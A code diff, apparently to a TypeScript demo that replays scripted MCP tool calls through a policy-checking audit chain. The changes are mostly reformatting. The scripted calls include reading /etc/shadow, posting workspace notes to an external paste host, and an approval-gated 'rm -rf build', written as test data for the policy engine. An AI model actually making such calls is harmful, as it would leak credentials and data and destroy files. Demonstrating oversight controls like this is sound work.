@@ -17,12 +17,30 @@ interface Step {
 }
 
 const SCRIPT: readonly Step[] = [
-  { id: "call-1", tool: "fs.read", path: "/workspace/notes.md", args: { path: "/workspace/notes.md" }, runs: { execution: { status: "success" }, response: "# notes\nship the release on friday\n" } },
+  {
+    id: "call-1",
+    tool: "fs.read",
+    path: "/workspace/notes.md",
+    args: { path: "/workspace/notes.md" },
+    runs: { execution: { status: "success" }, response: "# notes\nship the release on friday\n" },
+  },
   { id: "call-2", tool: "fs.read", path: "/etc/shadow", args: { path: "/etc/shadow" }, runs: { execution: { status: "success" } } },
   { id: "call-3", tool: "net.post", args: { url: "https://paste.example.net/new", body: "notes" }, runs: { execution: { status: "success" } } },
   { id: "call-4", tool: "shell.exec", args: { command: "rm -rf build" }, runs: { execution: { status: "success" } }, approve: true },
-  { id: "call-5", tool: "shell.exec", args: { command: "rm -rf build" }, runs: { execution: { status: "success" }, response: "removed build/\n" }, resumes: "call-4" },
-  { id: "call-6", tool: "fs.read", path: "/workspace/big.log", args: { path: "/workspace/big.log" }, runs: { execution: { status: "resource_exceeded", kind: "output" } } },
+  {
+    id: "call-5",
+    tool: "shell.exec",
+    args: { command: "rm -rf build" },
+    runs: { execution: { status: "success" }, response: "removed build/\n" },
+    resumes: "call-4",
+  },
+  {
+    id: "call-6",
+    tool: "fs.read",
+    path: "/workspace/big.log",
+    args: { path: "/workspace/big.log" },
+    runs: { execution: { status: "resource_exceeded", kind: "output" } },
+  },
 ];
 
 export interface DemoCall {
@@ -33,9 +51,7 @@ export interface DemoCall {
 
 /** The verbatim bytes an MCP client would send for this call; hashed as received. */
 function requestBytes(step: Step): Uint8Array {
-  return new TextEncoder().encode(
-    JSON.stringify({ jsonrpc: "2.0", id: step.id, method: "tools/call", params: { name: step.tool, arguments: step.args } }),
-  );
+  return new TextEncoder().encode(JSON.stringify({ jsonrpc: "2.0", id: step.id, method: "tools/call", params: { name: step.tool, arguments: step.args } }));
 }
 
 /**
@@ -83,7 +99,11 @@ export async function runScript(writer: ChainWriter): Promise<DemoCall[]> {
     await writer.endCall(step.id, response === undefined ? common : { ...common, response: new TextEncoder().encode(response) });
     const url = step.args["url"];
     const target = step.args["path"] ?? (url === undefined ? undefined : new URL(url).host) ?? step.args["command"] ?? "";
-    report.push({ id: step.id, summary: `${step.tool} ${target}`, verdict: verdictText(decision.policy, decision.decision_axes.matched_rule, execution, approvalRef) });
+    report.push({
+      id: step.id,
+      summary: `${step.tool} ${target}`,
+      verdict: verdictText(decision.policy, decision.decision_axes.matched_rule, execution, approvalRef),
+    });
     if (step.approve === true && decision.policy.status === "pending_approval") {
       const approval = decision.policy.approval_id;
       approvals.set(step.id, approval);
